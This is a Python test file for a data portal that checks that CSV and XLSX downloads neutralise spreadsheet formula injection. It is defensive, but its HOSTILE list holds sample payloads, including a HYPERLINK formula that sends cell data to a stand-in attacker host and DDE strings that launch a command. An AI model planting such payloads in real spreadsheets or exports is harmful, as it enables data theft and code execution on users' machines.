"""Downloads never carry a live spreadsheet formula: a programme or region name such as
``=HYPERLINK(...)`` loaded from a raw file reaches the CSV and XLSX downloads (and ``portal
figures --format csv``) as text, with a leading apostrophe; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal import downloads, export, publish, queries
from portal.spreadsheet import FORMULA_START, escape
from tests.conftest import load_frames
from tests.factories import random_raw

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"点击领取")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://attacker.example")',
]


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_csv_safe(data: bytes) -> int:
    """No text cell a spreadsheet would run; returns how many cells were checked."""
    rows = _csv_cells(data)
    n = 0
    for row in rows:
        for cell in row:
            n += 1
            assert not cell.startswith(FORMULA_START) or _is_number(cell), f"live formula in a CSV: {cell!r}"
    return n


def assert_xlsx_safe(data: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))  # formulas kept as formulas, not values
    n = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                n += 1
                assert cell.data_type != "f", f"formula cell {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.coordinate, cell.value)
    return n


@given(st.text(max_size=30))
@settings(max_examples=300, deadline=None)
def test_escape_is_total_and_keeps_the_text(text):
    out = escape(text)
    assert not out.startswith(FORMULA_START)
    assert out == text or out == "'" + text  # nothing lost, nothing else changed
    assert escape(-12.5) == -12.5 and escape(None) is None


def _frames_with_hostile_names():
    frames = random_raw(3, children=30, disbursements=60, donations=40, records=60)  # as test_stores
    programmes = frames["programmes"].copy()
    programmes.loc[0, "name_zh"] = HOSTILE[0]
    programmes.loc[0, "name_en"] = HOSTILE[1]
    programmes.loc[1, "name_en"] = HOSTILE[3]
    frames["programmes"] = programmes
    regions = frames["regions"].copy()
    used = set(frames["children"]["county"])
    hostile_region = regions.index[regions["name_zh"].isin(used)][0]
    regions.loc[hostile_region, "name_en"] = HOSTILE[2]
    frames["regions"] = regions
    return frames


def test_hostile_names_from_raw_files_reach_downloads_as_text(deployment, tmp_path):
    """Through the real loaders and publish: the hostile names are stored as they were typed
    (nothing evaluated), and every download of them is inert."""
    frames = _frames_with_hostile_names()
    load_frames(deployment, frames, tmp_path / "raw")
    result = publish.publish(working=deployment.working, published=deployment.published, k=5, note=HOSTILE[4])
    engine = deployment.published
    labels = queries.labels(engine=engine, release_id=result.release_id)
    names = set(labels["name_zh"]) | set(labels["name_en"])
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= names, "the hostile names must reach the store"
    cells = queries.cells(engine=engine, release_id=result.release_id)
    release = queries.current_release(engine=engine)
    programme = frames["programmes"].loc[0, "code"]
    view = cells[cells["programme"] == programme].head(400)  # a page's view is a few hundred cells
    assert len(view) > 0
    raw = view[list(queries.CELL_COLUMNS)]
    checked = assert_csv_safe(downloads.csv_bytes(raw, labels))
    checked += assert_csv_safe(export.to_csv(cells, labels))  # `portal figures --format csv`
    for lang in ("zh", "en"):
        checked += assert_xlsx_safe(
            downloads.xlsx_bytes(raw, labels, release=release, lang=lang, view=f"funds · {programme}")
        )
    assert checked > 1000
    # the names are still there, readable, as text
    text = downloads.csv_bytes(raw, labels).decode("utf-8-sig")
    assert "'" + HOSTILE[0].replace('"', '""') in text
    book = openpyxl.load_workbook(io.BytesIO(export_xlsx(raw, labels, release)))
    values = {c.value for row in book.worksheets[0].iter_rows() for c in row}
    assert "'" + HOSTILE[0] in values


def export_xlsx(raw, labels, release):
    return downloads.xlsx_bytes(raw, labels, release=release, lang="zh", view="v")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_every_text_column_of_an_export_is_escaped(hostile):
    """Codes and periods too: any text column of the labelled export."""
    cells = pd.DataFrame(
        [
            {
                "figure": "funds_raised",
                "programme": hostile,
                "period": "2023",
                **{d: None for d in export.DIMENSIONS},
                "value": -1234.5,
                "status": "published",
                "reason": None,
            }
        ]
    )
    cells.loc[0, "channel"] = hostile
    labels = pd.DataFrame([{"dimension": "programme", "code": hostile, "name_zh": hostile, "name_en": hostile}])
    out = export.labelled(cells, labels)
    texts = [v for v in out.to_numpy().ravel() if isinstance(v, str)]
    assert any(v == "'" + hostile for v in texts)
    assert not any(v.startswith(FORMULA_START) for v in texts)
    assert assert_csv_safe(export.to_csv(cells, labels)) > 10
    assert out["value"].iloc[0] == -1234.5  # a negative number is a number, not a formula


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_about_sheet_is_escaped_too(hostile):
    """The XLSX's second sheet names the view (a programme's name from a raw file) and the URL
    (a visitor's query): openpyxl would write a text starting with = as a formula."""
    release = queries.ReleaseInfo(
        id="2024-01-01.1", created_at=dt.datetime(2024, 1, 1, tzinfo=dt.UTC), as_of=dt.date(2023, 12, 31), k=10
    )
    rows = export.about_rows(release=release, lang="en", view=hostile, url=hostile)
    assert ("URL", escape(hostile)) in rows
    assert not any(str(value).startswith(FORMULA_START) for _, value in rows)
    cells = pd.DataFrame(columns=list(queries.CELL_COLUMNS))
    labels = pd.DataFrame(columns=["dimension", "code", "name_zh", "name_en"])
    assert assert_xlsx_safe(downloads.xlsx_bytes(cells, labels, release=release, lang="en", view=hostile, url=hostile))
